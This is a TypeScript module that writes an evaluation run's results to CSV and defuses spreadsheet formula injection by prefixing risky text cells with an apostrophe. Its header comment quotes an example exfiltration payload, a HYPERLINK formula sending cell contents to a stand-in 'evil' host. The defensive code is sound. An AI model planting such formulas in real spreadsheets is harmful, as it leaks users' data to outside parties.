// An eval run's per-item results as CSV, for people who open it in a spreadsheet. Model output and upstream
// errors are untrusted text: a cell starting with = + - @ (or a tab / carriage return) is a formula to Excel,
// LibreOffice and Sheets (`=HYPERLINK("https://evil/?"&A1)` leaks the sheet), so such text cells get a leading
// apostrophe (OWASP's CSV-injection advice). Numbers and Lintel's own ids are written as they are.
import type { ItemResult } from './store.ts';

const FORMULA_START = /^[=+\-@\t\r]/;

function field(v: unknown): string {
  const s = v === null || v === undefined ? '' : String(v);
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** Untrusted text, defused for spreadsheets. */
function text(v: string | null): string {
  if (v === null) return '';
  return FORMULA_START.test(v) ? `'${v}` : v;
}

export function resultsCsv(scorerNames: readonly string[], results: readonly ItemResult[]): string {
  const head = ['idx', 'ok', 'score', ...scorerNames, 'latency_ms', 'cost_usd', 'request_id', 'error', 'output'];
  const rows = results.map((r) =>
    [
      r.idx,
      r.ok,
      r.score,
      ...scorerNames.map((n) => r.scores[n]?.score ?? ''),
      r.latencyMs.toFixed(1),
      r.costUsd ?? '',
      r.requestId ?? '',
      text(r.error),
      text(r.output),
    ]
      .map(field)
      .join(','),
  );
  return `${[head.join(','), ...rows].join('\n')}\n`;
}
